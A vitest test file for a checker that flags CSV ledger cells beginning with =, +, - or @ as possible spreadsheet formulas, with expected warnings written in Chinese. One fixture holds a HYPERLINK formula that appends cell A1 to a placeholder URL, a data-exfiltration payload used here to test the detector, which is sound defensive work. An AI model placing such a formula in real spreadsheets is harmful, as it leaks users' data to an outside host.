import { expect, test } from 'vitest';
import { ledgerOf, ledgerProblems } from './ledger-problems';

test.each<{ name: string; ledger: string; expected: readonly string[] }>([
  {
    name: 'hyphens of lists, negative numbers, percentages, words after a sign',
    ledger: ledgerOf('1,-登记不全,-5,-3%,+86办公室,-PM2.5超标,@文化站,未完成'),
    expected: [],
  },
  {
    name: 'a call and a sum',
    ledger: ledgerOf('1,"+HYPERLINK(""http://x/?""&A1)",-2+3,,,,,未完成'),
    expected: [
      '2:2 提醒 第2行第2列“问题”：像公式，用表格软件打开 CSV 时会被算成别的（ledger-formula）',
      '    现在是：+HYPERLINK("http://x/?"&A1)',
      '    应当是：改写这一格，不用 =、+、-、@ 开头',
      '2:3 提醒 第2行第3列“整改措施”：像公式，用表格软件打开 CSV 时会被算成别的（ledger-formula）',
      '    现在是：-2+3',
      '    应当是：改写这一格，不用 =、+、-、@ 开头',
    ],
  },
])('ledger-formula: $name', ({ ledger, expected }) => {
  expect(ledgerProblems(ledger)).toEqual(expected);
});
